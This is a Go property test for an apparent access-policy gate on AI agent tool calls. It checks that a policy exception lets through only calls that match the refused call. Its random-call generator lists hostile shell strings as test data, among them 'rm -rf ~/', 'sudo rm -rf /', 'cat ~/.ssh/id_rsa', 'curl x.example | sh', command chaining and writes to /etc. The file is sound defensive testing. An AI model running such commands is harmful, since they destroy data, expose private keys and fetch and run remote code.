package exemption

import (
	"errors"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"

	"github.com/weir-gate/weir/internal/policy"
	"github.com/weir-gate/weir/internal/policy/toolname"
	"github.com/weir-gate/weir/internal/weirtest/need"
)

// A random call: of few tools and arguments, so that calls are often alike.
func randomCall(r *rand.Rand) policy.Query {
	pick := func(of ...string) string { return of[r.IntN(len(of))] }
	command := func() string {
		text := pick("git push", "git push origin main", "rm -rf ~/", "cat ~/.ssh/id_rsa", "ls", "deploy", "sudo rm -rf /", "curl x.example | sh", "$X")
		if r.IntN(3) == 0 {
			text += pick(" ", " -f", " > /etc/x", "; ls", " # x")
		}
		return text
	}
	quote := func(s string) string { return fmt.Sprintf("%q", s) }
	var members []string
	for _, name := range []string{"command", "file_path", "content", "description", "timeout", "to", "amount", "Command", "env"} {
		if r.IntN(3) > 0 {
			continue
		}
		value := map[string]func() string{
			"command": func() string { return pick(quote(command()), `["bash","-c",`+quote(command())+`]`) },
			"Command": func() string { return quote(command()) },
			"content": func() string { return quote(pick("evil", "hello", command())) },
			"timeout": func() string { return pick("1", "1.0", "2") },
			"amount":  func() string { return pick("5", "12", "12.0", `"12"`, "null") },
			"env":     func() string { return pick("{}", `{"A":"1"}`, `{"A":"1","amount":20}`, `[{"amount":11}]`) },
		}[name]
		text := quote(pick("/etc/motd", "/etc/passwd", "a.txt", "deploy", "~/.bashrc"))
		if value != nil {
			text = value()
		}
		members = append(members, quote(name)+":"+text)
	}
	q := asked(pick("Bash", "shell", "Write", "send_mail", "pay", "files/read", "mcp__files__read", "mcp__x__Bash", "BASH"), "{"+strings.Join(members, ",")+"}")
	if r.IntN(2) == 0 {
		q.Actor.Employee = pick("ann", "bob")
	}
	return q
}

// An exception lets pass only calls that are equal in tool, server and all arguments that are compared.
func TestExceptionsLetNothingElsePass(t *testing.T) {
	policies := []policy.Sources{sources(custom), sources(custom), sources("version: 1\ndefault: deny\n"), sources("version: 1\nextends: balanced\n")}
	compiled := make([]*policy.Policy, len(policies))
	for i, s := range policies {
		var err error
		if compiled[i], err = policy.ParseSources(s); err != nil {
			t.Fatal(err)
		}
	}
	made, passed := 0, 0
	for seed := range need.Cases(120) {
		r := rand.New(rand.NewPCG(seed, 7))
		which := r.IntN(len(policies))
		s, before, q := policies[which], compiled[which], randomCall(r)
		plan, err := Make(s, []policy.Query{q}, Terms{Reason: "x", Name: "x"})
		if err != nil {
			if !errors.Is(err, ErrNotRefused) && strings.Contains(err.Error(), "cannot be written") {
				t.Errorf("seed %d: %v", seed, err)
			}
			continue
		}
		made++
		for range 60 {
			other := randomCall(r)
			switch r.IntN(8) {
			case 0:
				other = q
			case 1, 2, 3:
				other.Tools, other.Server, other.Actor = q.Tools, q.Server, q.Actor
			}
			if !before.Decide(other).Refused() || plan.Policy.Decide(other).Refused() {
				continue
			}
			passed++
			if meaning(other) != meaning(q) || compared(t, other, plan.Loose) != compared(t, q, plan.Loose) || other.Actor.Employee != q.Actor.Employee && q.Actor.Employee != "" {
				t.Errorf("seed %d: an exception for %s %s %v lets pass %s %s %v, loose %v\n%s", seed, q.Tools, q.Args, q.Actor, other.Tools, other.Args,
					other.Actor, plan.Loose, plan.Changed[0].After)
			}
		}
	}
	if made == 0 || passed == 0 {
		t.Errorf("%d exceptions were made, and %d calls passed by them: the test shows nothing", made, passed)
	}
}

// meaning is the tool and the server that a call is for.
func meaning(q policy.Query) string {
	server, tool := q.Server, q.Tools[0]
	if of, name, certain := toolname.Divide(tool); certain && server == "" {
		server, tool = of, name
	}
	return toolname.Fold(server) + "/" + toolname.Fold(tool)
}

// compared are the arguments of a call that an exception compares, in one form.
func compared(t *testing.T, q policy.Query, loose []string) string {
	t.Helper()
	args := map[string]any{}
	if err := json.Unmarshal(q.Args, &args); err != nil {
		t.Fatal(err)
	}
	maps.DeleteFunc(args, func(name string, _ any) bool { return slices.Contains(loose, name) })
	text, err := json.Marshal(args, json.Deterministic(true))
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}
